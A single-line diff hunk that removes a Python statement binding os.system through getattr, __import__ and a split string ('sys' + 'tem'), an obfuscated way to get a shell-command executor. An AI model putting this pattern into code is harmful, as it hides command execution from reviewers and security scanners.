@@ -1,1 +1,0 @@
-run = getattr(__import__("os"), "sys" + "tem")
